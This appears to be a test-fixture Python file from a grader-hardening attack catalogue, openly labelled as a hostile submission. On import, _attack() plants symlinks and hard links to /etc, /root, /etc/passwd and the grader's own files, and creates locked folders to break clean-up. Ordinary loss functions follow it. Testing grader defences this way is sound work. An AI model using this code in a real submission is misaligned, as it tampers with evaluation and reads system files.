"""Hostile submission (gradverify attack catalogue): links to the grader's files wherever the clean-up may follow them."""

import glob
import os

import numpy as np

TARGETS = ["/work/main/properties", "/work/main", "/etc", "/root", "/work/main/.venv", *glob.glob("/tmp/gvattack-canary*")]
FOLDERS = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", os.environ.get("TMPDIR", "/tmp")]


def _attack():
    for folder in FOLDERS:
        for i, target in enumerate(TARGETS):
            for name in (f"gvattack-link-{i}", "results.json", "submission.py", "work"):
                try:
                    os.symlink(target, os.path.join(folder, name))
                except OSError:
                    pass
        for i, target in enumerate(("/etc/passwd", "/work/main/impl/backprop.py", *glob.glob("/tmp/gvattack-canary*"))):
            try:
                os.link(target, os.path.join(folder, f"gvattack-hardlink-{i}"))
                print("ATTACK-SUCCEEDED: hard link to", target, "in", folder)
            except OSError:
                pass
        try:  # a folder that cannot be entered, with a file in it, to upset the clean-up
            inner = os.path.join(folder, "gvattack-locked")
            os.makedirs(os.path.join(inner, "deeper"), exist_ok=True)
            with open(os.path.join(inner, "deeper", "file"), "w") as handle:
                handle.write("x")
            os.chmod(os.path.join(inner, "deeper"), 0)
            os.chmod(inner, 0)
        except OSError:
            pass


_attack()


def loss(name, y_pred, y_true):
    return float(np.mean((y_pred - y_true) ** 2))


def loss_backward(name, y_pred, y_true):
    return 2.0 * (y_pred - y_true) / y_pred.size
